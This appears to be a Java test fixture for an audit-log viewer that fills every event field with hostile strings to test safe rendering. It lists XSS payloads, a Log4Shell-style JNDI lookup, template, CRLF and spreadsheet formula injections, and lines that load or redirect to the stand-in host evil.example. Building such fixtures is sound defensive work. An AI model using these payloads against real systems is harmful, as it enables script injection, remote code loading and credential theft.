package dev.bitacora.viewer.browser;

import dev.bitacora.core.event.AuditEvent;
import dev.bitacora.core.event.AuditEventBuilder;
import dev.bitacora.core.event.EventSchema;
import dev.bitacora.core.event.Field;
import dev.bitacora.core.event.FieldType;
import java.time.Instant;
import java.util.List;

/** What attackers write into events. */
final class HostileTexts {
  static final List<String> ALL =
      List.of(
          "<script>alert(1)</script>",
          "\"><svg onload=alert(2)>",
          "'\"--><img src=https://evil.example/x onerror=alert(3)>",
          "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(4) )//%0D%0A//</stYle/</titLe/"
              + "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(5)//>\\x3e",
          "<iframe srcdoc='<script>parent.alert(6)</script>'></iframe>",
          "<style>@import 'https://evil.example/css';</style><link rel=stylesheet href=//evil.example>",
          "<meta http-equiv=refresh content='0;url=https://evil.example'>",
          "<base href=https://evil.example/><form action=//evil.example><button>x</button></form>",
          "{{constructor.constructor('alert(7)')()}} ${7*7} #{7*7} @{7*7} ${jndi:ldap://evil.example/a}",
          "</textarea></title></pre></svg></math><body onload=alert(8)>",
          "javascript:alert(9)",
          "data:text/html,<script>alert(10)</script>",
          "https://evil.example/click?me=1",
          "a\u202Egpj.exe\u202C b\u2066c\u2069 d\u200Be\u200Ff\uFEFFg",
          "nul\u0000 bell\u0007 escape\u001B[31mred\u001B[0m next\u0085line\u2028para\u2029end",
          "line\r\nSet-Cookie: evil=1\r\n\r\n<script>alert(11)</script>",
          "\u0336z\u0489\u0353\u0316a\u0337\u0321l\u0322g\u0340o".repeat(40),
          "W".repeat(900),
          "=cmd|' /C calc'!A0",
          "%3Cscript%3Ealert(12)%3C/script%3E &lt;script&gt;alert(13)&lt;/script&gt;");

  private HostileTexts() {}

  /** An event with this text wherever text can stand. */
  static AuditEventBuilder inEveryField(String text) {
    AuditEventBuilder event = AuditEvent.builder("hostile").at(Instant.now());
    for (Field field : EventSchema.fields()) {
      boolean isText = field.type() == FieldType.KEYWORD || field.type() == FieldType.TEXT;
      if (isText && !field.envelope() && !isFixed(field.name())) {
        event.set(field.name(), text);
      }
    }
    return event
        .set("error.stack_trace", text)
        .set("trace.id", "hostile")
        .change(text.replace('\0', '0'), text, text)
        .label(text.replace('\0', '0'), text)
        .detail(text.replace('\0', '0'), text);
  }

  private static boolean isFixed(String name) {
    return List.of(
            "event.dataset",
            "event.action",
            "event.kind",
            "ecs.version",
            "audit.schema.version",
            "audit.class",
            "audit.truncated",
            "audit.change.fields")
        .contains(name);
  }
}
